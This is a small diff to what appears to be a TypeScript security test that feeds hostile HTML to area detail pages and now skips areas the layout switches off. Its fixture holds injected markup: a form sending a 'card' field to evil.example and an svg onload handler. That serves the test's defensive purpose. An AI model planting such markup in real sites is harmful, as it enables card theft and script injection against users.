@@ -1,4 +1,4 @@
-import { areas, isListArea } from '#contract/areas.ts';
+import { areas, findArea, isListArea } from '#contract/areas.ts';
 import { resources } from '#contract/resources.ts';
 import { expect, test } from '../support/failures.ts';
 import { sendJson } from '../support/scripted-upstream.ts';
@@ -16,8 +16,9 @@ const HOSTILE = `
   <form action="https://evil.example/"><input name="card"></form>
   <svg onload="window.isHacked = true"></svg>`;
 
-/** Resource and page of each area with documents. */
+/** Resource and page of each area with documents that the layout does not switch off. */
 const details = Object.keys(areas)
+  .filter((area) => findArea(area)?.switch === undefined)
   .filter(isListArea)
   .map((area) => [resources[areas[area].detail].path.split('/')[2] ?? '', `/${area}`] as const);
 
